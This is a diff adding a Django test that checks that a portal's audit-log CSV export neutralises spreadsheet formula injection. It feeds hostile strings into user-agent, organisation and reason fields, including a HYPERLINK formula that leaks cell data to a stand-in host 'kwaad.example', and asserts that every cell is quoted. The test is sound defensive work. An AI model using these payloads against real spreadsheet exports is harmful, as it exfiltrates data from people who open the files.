@@ -64,3 +64,33 @@ def test_log_page_query_count_is_constant(client, personas):
     assert_constant_queries(
         lambda n: [_rij(personas, personas.gemeente.pk) for _ in range(n)], lambda: client.get(reverse("portaal:logboek"))
     )
+
+
+def test_export_cells_typed_by_others_are_never_formulas(client, personas):
+    """An anonymous invitee's User-Agent, a forwarding invitee's organisation, a
+    break-the-glass reason: each reaches the export and must not run in Excel."""
+    from django.test import RequestFactory
+
+    from samenwerk.privacy.audit import Grondslag
+    from samenwerk.ui.spreadsheet import FORMULE_BEGIN
+
+    kwaad = ['=HYPERLINK("http://kwaad.example/?d="&A1,"klik")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+    for tekst in kwaad:
+        record(
+            actor=None,
+            actie="read",
+            gebeurtenis="overleg.uitnodiging.bekeken",
+            request=RequestFactory().get("/", HTTP_USER_AGENT=tekst),
+            organisatie=tekst,
+            grondslag=Grondslag(noodtoegang=True, reden=tekst),
+            onderwerp=Onderwerp(gemeente_id=personas.gemeente.pk, casus_id=5),
+        )
+    login(client, personas.privacyfunctionaris)
+    confirm_recently(client)
+    response = client.get(reverse("portaal:logboek-export"), {"casus": 5})
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    assert len(rows) == len(kwaad)
+    for row in rows:
+        for kolom in ("user_agent", "organisatie", "reden"):
+            assert row[kolom].startswith("'") and row[kolom][1:] in kwaad, (kolom, row[kolom])
+            assert not row[kolom].startswith(FORMULE_BEGIN)
